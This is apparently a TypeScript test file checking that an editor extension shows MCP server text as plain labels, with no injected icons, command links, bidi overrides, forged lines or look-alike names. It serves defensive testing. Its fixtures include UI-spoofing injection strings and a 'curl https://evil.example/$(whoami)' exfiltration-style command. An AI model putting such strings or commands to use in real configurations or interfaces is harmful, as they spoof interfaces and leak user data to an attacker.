// The one label rule (src/core/label.ts) on every surface a server string reaches: picker rows, tree
// rows and tooltips, argument steps, chat-input suggestions, markdown labels, questions and the consent
// dialog. A server's title, name, description or problem never draws an icon, forges a row or a line,
// reorders text with bidi controls or becomes a link a notification would run.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { labelEnds, labelText, MAX_LABEL_CHARS } from '../../src/core/label';
import { parseConfigObject } from '../../src/core/config/config';
import { PromptError } from '../../src/core/errors';
import type { CatalogPrompt } from '../../src/core/catalog/catalog';
import {
  argumentItem,
  heldItem,
  problemItem,
  promptItem,
  serverItem,
  type ServerView,
} from '../../src/core/view/tree-items';
import { pickerItems } from '../../src/core/view/picker-rows';
import { fieldsOf } from './picker-row-fields';
import { boxRow, nameSuggestion, suggestions, valueSuggestion } from '../../src/core/view/suggestions';
import { ValueRows } from '../../src/core/view/value-rows';
import { escapeLabel } from '../../src/core/render/markdown';
import { checkUrl, inert } from '../../src/core/protocol/questions/elicitation';
import { consentDetail } from '../../src/core/config/consent';

/** Server text that tries every trick: an icon, a forged second line, a bidi override, a command link, controls. */
const HOSTILE =
  '$(error) github failed\nSelect to open its log \u202eevil\u2066 [run](command:workbench.action.quit)\u001b[2J';

/** What the rule leaves of a string: nothing that is not plain, readable, one-line text. */
function assertPlain(shown: string | undefined, where: string): void {
  assert.ok(shown !== undefined, `${where}: nothing shown`);
  assert.doesNotMatch(shown, /\$\(/, `${where}: an icon can form in ${JSON.stringify(shown)}`);
  assert.doesNotMatch(shown, /\]\(/, `${where}: a link can form in ${JSON.stringify(shown)}`);
  assert.doesNotMatch(shown, /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u, `${where}: ${JSON.stringify(shown)}`);
}

test('labelText: one line, no controls or bidi, no icon or link, cut with …', () => {
  assert.equal(
    labelText(HOSTILE),
    '$\u200b(error) github failed Select to open its log evil [run]\u200b(command:workbench.action.quit) [2J',
  );
  assert.equal(labelText('x'.repeat(MAX_LABEL_CHARS + 5)), `${'x'.repeat(MAX_LABEL_CHARS)}…`);
  assert.equal(labelText('plain words'), 'plain words');
  // The other helpers are this rule: questions (inert), markdown labels (escapeLabel).
  assert.equal(inert(HOSTILE, 1000), labelText(HOSTILE, 1000));
  assertPlain(escapeLabel(HOSTILE), 'escapeLabel');
});

test('labelText: characters that hide text are written out, so a name cannot read as another; labelled twice, the same', () => {
  const tags = [...'HI'].map(c => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
  assert.equal(labelText('git\u200bhub'), 'git\\u200bhub');
  assert.equal(labelText(`summary${tags}`), 'summary\\u{e0048}\\u{e0049}');
  assert.equal(labelText('\u3164filler x\ufe0f\ufe0f'), '\\u3164filler x\ufe0f\\ufe0f');
  // Emoji keep their one selector and their joiners.
  assert.equal(labelText('\u2764\ufe0f \ud83d\udc69\u200d\ud83d\udcbb'), '\u2764\ufe0f \ud83d\udc69\u200d\ud83d\udcbb');
  for (const text of [HOSTILE, `$(x) ](y) git\u200bhub${tags}`])
    assert.equal(labelText(labelText(text)), labelText(text));
});

const def = parseConfigObject({ servers: { [HOSTILE]: { command: 'node', args: ['x.js'] } } }, 'workspace').servers[0];

function hostileServer(): ServerView & { prompts: CatalogPrompt[] } {
  const entry = {
    id: def.id,
    def,
    prompts: [] as CatalogPrompt[],
    loading: false,
    warnings: [HOSTILE],
    connection: { state: { kind: 'error' as const, error: new PromptError(HOSTILE, 'server', def.name) } },
  };
  entry.prompts.push({
    server: entry as unknown as CatalogPrompt['server'],
    prompt: {
      name: 'p',
      title: HOSTILE,
      description: HOSTILE,
      arguments: [{ name: HOSTILE, description: HOSTILE, required: true }],
    },
    invocationName: `${def.id}.p`,
    shortName: 'p',
    unique: true,
  });
  return entry;
}

test('picker rows: a prompt title that imitates a status row draws no icon; separator, description and detail too', () => {
  const s = hostileServer();
  const rows = pickerItems([s]);
  for (const [i, row] of rows.entries()) {
    assertPlain(row.label, `row ${i} label`);
    if (fieldsOf(row).description !== undefined) assertPlain(fieldsOf(row).description, `row ${i} description`);
    if (fieldsOf(row).detail !== undefined) assertPlain(fieldsOf(row).detail, `row ${i} detail`);
  }
  // The failing server's own status row keeps our icon, with the server's name made plain.
  const failed = pickerItems([{ ...s, prompts: [] }]).find(r => fieldsOf(r).logOf);
  assert.ok(failed?.label.startsWith('$(error) '), failed?.label);
  assertPlain(failed!.label.slice('$(error) '.length), 'status row name');
  assertPlain(fieldsOf(failed!).description, 'status row problem');
});

test('tree rows: server, prompt, argument, held and problem rows and their tooltips are plain', () => {
  const s = hostileServer();
  const texts = (tooltip: ReturnType<typeof serverItem>['tooltip']) =>
    typeof tooltip === 'string' ? [tooltip] : (tooltip ?? []).map(p => ('text' in p ? p.text.trim() : ''));
  const server = serverItem(s);
  assertPlain(server.label, 'server label');
  assertPlain(server.description, 'server description');
  texts(server.tooltip).forEach((t, i) => t && assertPlain(t, `server tooltip ${i}`));
  const p = promptItem(s.prompts[0]);
  assertPlain(p.label, 'prompt label');
  assertPlain(p.description, 'prompt description');
  texts(p.tooltip).forEach((t, i) => t && assertPlain(t, `prompt tooltip ${i}`));
  const a = argumentItem(s.prompts[0], 0);
  for (const shown of [a.label, a.description, a.tooltip as string]) assertPlain(shown, 'argument row');
  const held = heldItem({ def, origin: '.vscode/mcp.json', reason: 'consent', message: HOSTILE });
  assertPlain(held.label, 'held label');
  assertPlain(held.tooltip as string, 'held tooltip');
  const problem = problemItem(HOSTILE, HOSTILE);
  for (const shown of [problem.label, problem.description, problem.tooltip as string])
    assertPlain(shown, 'problem row');
});

test('a server name that may imitate another is marked on its tree row, its held row and its picker group', () => {
  const view = (name: string) => {
    const d = parseConfigObject({ servers: { [name]: { command: 'node' } } }, 'workspace').servers[0];
    return {
      id: d.id,
      def: d,
      prompts: [],
      loading: false,
      warnings: [],
      connection: { state: { kind: 'idle' as const } },
    };
  };
  const marks: [string, RegExp | undefined][] = [
    ['git\u200bhub', /⚠ holds 1 invisible characters: it may imitate another name/],
    ['git\u200dhub', /⚠ holds 1 invisible characters/],
    ['g\u0456thub', /⚠ mixes Latin \+ Cyrillic letters: it may imitate another name/],
    ['github', undefined],
  ];
  for (const [name, mark] of marks) {
    const s = view(name);
    const shown = [
      serverItem(s).description ?? '',
      heldItem({ def: s.def, origin: '.vscode/mcp.json', reason: 'consent', message: 'waiting' }).label,
      pickerItems([s])[0].label,
    ];
    for (const text of shown) {
      if (mark) assert.match(text, mark);
      else assert.doesNotMatch(text, /⚠/);
    }
    // A narrow row cuts its description at the end: the mark comes first there.
    if (mark) assert.ok(shown[0].startsWith('⚠ '), shown[0]);
  }
});

test("a URL question's address and host are shown by the label rule, whole; the address opened is the server's", () => {
  const url = `https://a$(error)b.example/$(check)/${'p'.repeat(1500)}?q=[x](command:y)`;
  const checked = checkUrl('s', url);
  assert.ok('ok' in checked);
  assertPlain(checked.ok.shownUrl, 'shown address');
  assertPlain(checked.ok.host, 'host');
  assert.equal(checked.ok.url, new URL(url).href, 'opened as the server gave it');
  assert.equal(checked.ok.shownUrl.replace(/\u200b/g, ''), checked.ok.url, 'shown whole');
});

test('the consent shows the end of a long command line, and how much of its middle it leaves out', () => {
  const args = ['-e', `${'x'.repeat(2000)}`, '--then', 'curl https://evil.example/$(whoami)'];
  const d = parseConfigObject({ servers: { s: { command: 'node', args } } }, 'workspace').servers[0];
  const command = consentDetail(d)
    .split('\n')
    .find(l => l.startsWith('Command:'))!;
  assert.ok(command.endsWith('--then "curl https://evil.example/$\u200b(whoami)"'), command);
  assert.match(command, / …\d+ characters left out… /);
  assert.ok(command.length < 700, `${command.length} characters`);
  assert.equal(labelEnds('short', 600), 'short');
});

test('argument steps: completion and history values, the hint and the source are plain labels; the value stays whole', () => {
  const rows = new ValueRows();
  const items = rows.items(
    boxRow('', HOSTILE, true),
    suggestions('', [HOSTILE], { prefix: '', values: [] }, HOSTILE),
    '',
  )!;
  for (const row of items) {
    assertPlain(row.label.replace(/^\$\((edit|debug-step-over)\) /, ''), 'step row label');
    if (row.description) assertPlain(row.description, 'step row description');
  }
  assert.equal(items.find(r => r.value !== undefined)?.value, HOSTILE, 'the value is sent as the server gave it');
});

test('chat-input suggestions: a value or an argument name is shown plain', () => {
  assertPlain(valueSuggestion(HOSTILE).label, 'value suggestion');
  assertPlain(nameSuggestion(HOSTILE).label, 'name suggestion');
});

test('consent dialog: the server name, URL and header values of a workspace server are plain', () => {
  const [http] = parseConfigObject(
    { servers: { x: { type: 'http', url: `https://e.example/${HOSTILE}`, headers: { [HOSTILE]: HOSTILE } } } },
    'workspace',
  ).servers;
  for (const line of consentDetail(http).split('\n')) assertPlain(line, 'consent line');
});
